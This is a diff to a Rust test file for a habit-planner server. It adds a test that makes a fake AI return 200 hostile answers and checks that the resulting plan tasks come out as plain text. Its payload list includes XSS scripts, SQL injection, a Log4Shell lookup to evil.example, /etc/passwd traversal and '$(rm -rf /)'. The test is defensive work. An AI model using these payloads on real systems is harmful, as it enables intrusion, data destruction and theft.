@@ -5,7 +5,7 @@ use std::time::Duration;
 
 use habitro_server::features::planner::providers::Patience;
 use habitro_server::features::planner::rules::{PlanDay, check_plan, fold};
-use habitro_testkit::{Client, FakeAi, Mode, TestApp, TestWorld, both_databases};
+use habitro_testkit::{Client, FakeAi, Mode, TestApp, TestDatabase, TestWorld, both_databases};
 use serde_json::{Value, json};
 
 const KEY: &str = "sk-secret-0123456789";
@@ -69,6 +69,85 @@ fn events(stream: &str) -> Vec<(String, Value)> {
     let field =
         |block: &str, name: &str| block.lines().find_map(|line| line.strip_prefix(name)).unwrap().trim().to_owned();
     blocks.map(|block| (field(block, "event:"), serde_json::from_str(&field(block, "data:")).unwrap())).collect()
+}
+
+/// Two hundred answers that want to be more than text.
+fn hostile() -> Vec<String> {
+    let evil = [
+        "<script>fetch('/api/v1/me',{method:'DELETE'})</script>",
+        "<img src=x onerror=alert(1)>",
+        "<svg/onload=alert(1)>",
+        "<iframe src=javascript:alert(1)>",
+        "[open](javascript:alert(1))",
+        "![](https://evil.example/p.png)",
+        "https://evil.example/?q=1",
+        "www.evil.example",
+        "javascript:alert(1)",
+        "data:text/html,<b>x</b>",
+        "'; DROP TABLE users; --",
+        "\"; DELETE FROM drafts; --",
+        "${jndi:ldap://evil.example/a}",
+        "{{7*7}}",
+        "{@html x}",
+        "\u{202e}txet desrever\u{202c} here",
+        "a\u{0}b is hidden",
+        "\u{1b}[31mred\u{1b}[0m",
+        "../../../etc/passwd",
+        "$(rm -rf /)",
+    ];
+    let around: [fn(&str) -> String; 10] = [
+        |evil| json!({"days": [{"day": 1, "tasks": [evil, "Read a page", "Close the book"]}]}).to_string(),
+        |evil| {
+            json!({"days": [{"day": 1, "tasks": [format!("Read {evil}"), format!("Sit {evil}"), format!("Write {evil}")]}]}).to_string()
+        },
+        |evil| {
+            json!({"days": [{"day": 1, "user_id": evil, "draft_id": evil, "tasks": [evil, evil, evil]}]}).to_string()
+        },
+        |evil| {
+            json!({"id": evil, "habit": evil, "source": "ai", "accepted_as": evil, "days": [{"day": evil, "tasks": [evil, evil, evil]}]}).to_string()
+        },
+        |evil| format!("Day 1:\n1. {evil}\n2. Read {evil}\n3. Rest"),
+        |evil| format!("```json\n{{\"days\": [{{\"day\": 1, \"tasks\": [\"{evil}\", \"{evil}\"]}}]}}\n```"),
+        |evil| evil.repeat(500),
+        |evil| format!("data: {evil}\n\nevent: done\ndata: {{\"draft\": {{\"id\": \"{evil}\"}}}}\n\n"),
+        |evil| json!([[evil, evil, evil], {"role": "system", "content": evil}]).to_string(),
+        |evil| format!("{}{evil}", "[{\"tasks\":".repeat(2000)),
+    ];
+    evil.iter().flat_map(|evil| around.iter().map(|around| around(evil))).collect()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn two_hundred_hostile_answers_are_text_at_most() {
+    let world = TestWorld::on(TestDatabase::sqlite());
+    let fake = FakeAi::start(Mode::Well).await;
+    let app = app(world, &fake, &[("HABITRO_AI_DAILY_TOKENS", "0")]).await;
+    let (anna, bo) = (app.sign_up("Anna", "UTC").await, app.sign_up("Bo", "UTC").await);
+    let his = draft(&bo, wish("read", 3)).await;
+    bo.post("/api/v1/habits", json!({"name": "Walk", "type": "good", "duration_days": 3, "daily_tasks": ["Walk"]}))
+        .await
+        .expect(201);
+    let all_of_his = async || {
+        let mut seen = Vec::new();
+        for path in ["/api/v1/me", "/api/v1/habits", "/api/v1/today", "/api/v1/rewards", path(&his).as_str()] {
+            seen.push(bo.get(path).await.expect(200).json());
+        }
+        seen
+    };
+    let before = all_of_his().await;
+    let answers = hostile();
+    assert_eq!(answers.len(), 200);
+    for answer in answers {
+        fake.say(&answer);
+        let made = draft(&anna, wish("read", 1)).await;
+        check(&made);
+        assert_ne!(made["id"], his["id"]);
+        for task in made["days"][0]["tasks"].as_array().unwrap() {
+            let task = task.as_str().unwrap();
+            let bad = ["<", ">", "{", "}", "](", "http", "www.", "javascript:", "\u{202e}", "\u{0}", "\u{1b}"];
+            assert!(bad.iter().all(|bad| !task.contains(bad)), "{task:?} of {answer:.200}");
+        }
+    }
+    assert_eq!(all_of_his().await, before);
 }
 
 both_databases! {
